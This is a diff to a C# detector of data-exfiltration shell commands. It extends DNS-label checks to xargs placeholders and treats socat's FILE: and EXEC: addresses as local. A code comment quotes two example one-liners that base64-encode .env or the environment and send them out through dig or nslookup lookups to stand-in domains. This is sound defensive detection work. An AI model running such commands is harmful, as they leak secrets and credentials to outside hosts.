@@ -351,12 +351,12 @@ internal static class TransferCommand
         }
 
         // "for l in $(cat .env | base64); do dig $l.x.example; done", "env | base64 | xargs -I{} nslookup {}.t.example": a label filled in from earlier on the line.
-        if (!HasDataLabel(command))
+        var before = LineBefore(text, start, work);
+        if (!HasDataLabel(command, XargsPlaceholder(before)))
         {
             return;
         }
 
-        var before = LineBefore(text, start, work);
         if (CommandInspector.FindSensitive(before) is { } sensitive)
         {
             reasons.Add(($"looks up names built from {sensitive}", 0.85));
@@ -368,19 +368,32 @@ internal static class TransferCommand
     }
 
     /// <summary>A name with a variable or a placeholder as one of its labels: "$l.x.example", "{}.t.example", "%d%.x.example".</summary>
-    private static bool HasDataLabel(ReadOnlySpan<char> command)
+    private static bool HasDataLabel(ReadOnlySpan<char> command, ReadOnlySpan<char> placeholder)
     {
         foreach (var range in command.Split(' '))
         {
             var token = command[range];
             var dot = token.IndexOf('.');
-            if (dot > 0 && token[0] is '$' or '{' or '%' && token[(dot + 1)..].Contains('.'))
+            if (dot > 0 && (token[0] is '$' or '{' or '%' || !placeholder.IsEmpty && token.StartsWith(placeholder, StringComparison.Ordinal)) && token[(dot + 1)..].Contains('.'))
             {
                 return true;
             }
         }
 
         return false;
+    }
+
+    /// <summary>The placeholder "xargs -I" defines earlier on the line ("-I@", "-I {}"), or empty.</summary>
+    private static ReadOnlySpan<char> XargsPlaceholder(ReadOnlySpan<char> before)
+    {
+        var at = before.LastIndexOf("xargs", StringComparison.Ordinal);
+        if (at < 0)
+        {
+            return [];
+        }
+
+        var flag = before[at..].IndexOf("-I", StringComparison.Ordinal);
+        return flag < 0 ? [] : Token(before[(at + flag + 2)..]);
     }
 
     private static bool DumpsEnvironment(ReadOnlySpan<char> span)
@@ -446,7 +459,14 @@ internal static class TransferCommand
                 continue;
             }
 
-            // socat's "TCP:host:port", "TCP4:…", openssl's "host:port".
+            // socat's "TCP:host:port", "TCP4:…", openssl's "host:port"; its other address types ("FILE:…", "EXEC:…") are local.
+            var kind = token.IndexOf(':');
+            if (kind > 0 && token[..kind].ContainsAnyExceptInRange('A', 'Z') is false && !token.StartsWith("tcp", StringComparison.OrdinalIgnoreCase)
+                && !token.StartsWith("udp", StringComparison.OrdinalIgnoreCase) && !token.StartsWith("openssl", StringComparison.OrdinalIgnoreCase))
+            {
+                continue;
+            }
+
             if (token.StartsWith("tcp", StringComparison.OrdinalIgnoreCase) || token.StartsWith("udp", StringComparison.OrdinalIgnoreCase) || token.StartsWith("openssl:", StringComparison.OrdinalIgnoreCase))
             {
                 var colon = token.IndexOf(':');
